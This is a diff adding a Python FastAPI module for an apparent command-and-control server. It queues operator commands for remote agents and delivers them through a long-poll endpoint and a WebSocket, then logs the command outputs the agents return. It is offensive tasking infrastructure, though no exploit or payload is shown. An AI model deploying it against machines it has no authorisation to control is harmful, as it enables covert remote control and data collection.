@@ -0,0 +1,174 @@
+"""
+C2.Backend.API.agent_api
+
+This module defines the agent-facing routes shared by the C2 listeners and the
+admin API: the command long-poll, the persistent agent WebSocket and the batched
+output upload. It also holds the per-agent command queues the operator fills
+through the admin API.
+
+Commands are queued in process memory, so they reach agents served by the same
+process as the admin API. Listeners running as separate worker processes
+(C2_HTTP_WORKERS > 1) do not see them.
+"""
+#!/usr/bin/env python3
+
+import asyncio
+import orjson
+from typing import Dict, List
+from pydantic import BaseModel
+from fastapi import APIRouter, WebSocket, WebSocketDisconnect, HTTPException, Response
+
+from C2.Backend.utils.logging_config import loggers
+from C2.Backend.API.agent_manager_pg import authenticate_agent, update_agent_status
+
+router = APIRouter()
+logger = loggers["c2server"]
+
+# Upper bound (seconds) for how long a long-polling agent request may be held open
+MAX_POLL_WAIT = 60
+
+# Commands queued for each agent, and the events that wake their pending long-polls
+pending_commands: Dict[str, List[str]] = {}
+command_events: Dict[str, asyncio.Event] = {}
+
+
+def queue_command(agent_id: str, command: str):
+    """
+    Queue a command for an agent and wake any long-poll waiting on it.
+
+    Args:
+        agent_id (str): The agent that should execute the command.
+        command (str): The command to deliver.
+    """
+    pending_commands.setdefault(agent_id, []).append(command)
+    command_events.setdefault(agent_id, asyncio.Event()).set()
+
+
+@router.get("/api/agent/commands")
+async def api_poll_commands(agent_id: str, auth_token: str, wait: float = 0):
+    """
+    Long-poll endpoint through which agents retrieve queued commands.
+
+    The request is held open for up to `wait` seconds (capped at MAX_POLL_WAIT)
+    until a command is queued, so commands are delivered as soon as they exist
+    instead of on the agent's next polling tick.
+
+    Args:
+        agent_id (str): The agent's unique identifier.
+        auth_token (str): The agent's authentication token.
+        wait (float): Maximum number of seconds to hold the request open.
+
+    Returns:
+        dict: A JSON object with the list of queued commands, or an empty
+        204 response if none arrived before the wait expired.
+
+    Raises:
+        HTTPException: If authentication fails.
+    """
+    if not await authenticate_agent(agent_id, auth_token):
+        raise HTTPException(status_code=401, detail="Authentication failed")
+    await update_agent_status(agent_id, "Online")
+
+    event = command_events.setdefault(agent_id, asyncio.Event())
+    if not pending_commands.get(agent_id) and wait > 0:
+        try:
+            await asyncio.wait_for(event.wait(), timeout=min(wait, MAX_POLL_WAIT))
+        except asyncio.TimeoutError:
+            pass
+
+    event.clear()
+    commands = pending_commands.pop(agent_id, [])
+    if not commands:
+        return Response(status_code=204)
+    return {"commands": commands}
+
+
+@router.websocket("/ws/agent")
+async def websocket_agent(websocket: WebSocket, agent_id: str, auth_token: str):
+    """
+    Persistent WebSocket channel for agents. Queued commands are pushed the
+    moment they exist, and the agent sends its outputs back on the same
+    connection, so an idle agent issues no requests at all.
+
+    Args:
+        websocket (WebSocket): The WebSocket connection instance.
+        agent_id (str): The agent's unique identifier (query parameter).
+        auth_token (str): The agent's authentication token (query parameter).
+    """
+    if not await authenticate_agent(agent_id, auth_token):
+        await websocket.close(code=1008)
+        return
+    await websocket.accept()
+    await update_agent_status(agent_id, "Online")
+
+    async def receive_outputs():
+        """
+        Log outputs and messages sent by the agent until it disconnects.
+        """
+        while True:
+            frame = orjson.loads(await websocket.receive_text())
+            for output in frame.get("outputs", []):
+                logger.info(f"Output from agent {agent_id}: {output}")
+            if "message" in frame:
+                logger.info(f"Message from agent {agent_id}: {frame['message']}")
+
+    event = command_events.setdefault(agent_id, asyncio.Event())
+    receiver = asyncio.create_task(receive_outputs())
+    try:
+        while True:
+            waiter = asyncio.create_task(event.wait())
+            await asyncio.wait({receiver, waiter}, return_when=asyncio.FIRST_COMPLETED)
+            if receiver.done():
+                waiter.cancel()
+                receiver.result()  # Re-raises the disconnect
+            event.clear()
+            commands = pending_commands.pop(agent_id, [])
+            if commands:
+                await websocket.send_text(orjson.dumps({"commands": commands}).decode())
+    except WebSocketDisconnect:
+        logger.info(f"Agent {agent_id} WebSocket disconnected.")
+        await update_agent_status(agent_id, "Offline")
+    except Exception as e:
+        logger.error(f"Error in websocket_agent: {e}")
+    finally:
+        receiver.cancel()
+
+
+class AgentOutputBatchRequest(BaseModel):
+    """
+    Represents a batch of command outputs uploaded by an agent in one request.
+
+    Attributes:
+        agent_id (str): The unique identifier for the agent.
+        auth_token (str): The token previously issued to the agent.
+        outputs (List[str]): Command execution results, in execution order.
+    """
+    agent_id: str
+    auth_token: str
+    outputs: List[str]
+
+
+@router.post("/api/agent/output_batch")
+async def api_agent_output_batch(request: AgentOutputBatchRequest):
+    """
+    Receive several command outputs from an agent in a single request.
+
+    Agents buffer the results of a polling cycle and upload them together,
+    so one authentication and one round-trip cover the whole batch.
+
+    Args:
+        request (AgentOutputBatchRequest): Contains the agent's credentials and outputs.
+
+    Returns:
+        dict: A JSON object with the number of outputs accepted.
+
+    Raises:
+        HTTPException: If authentication fails.
+    """
+    if not await authenticate_agent(request.agent_id, request.auth_token):
+        raise HTTPException(status_code=401, detail="Authentication failed")
+    await update_agent_status(request.agent_id, "Online")
+
+    for output in request.outputs:
+        logger.info(f"Output from agent {request.agent_id}: {output}")
+    return {"received": len(request.outputs)}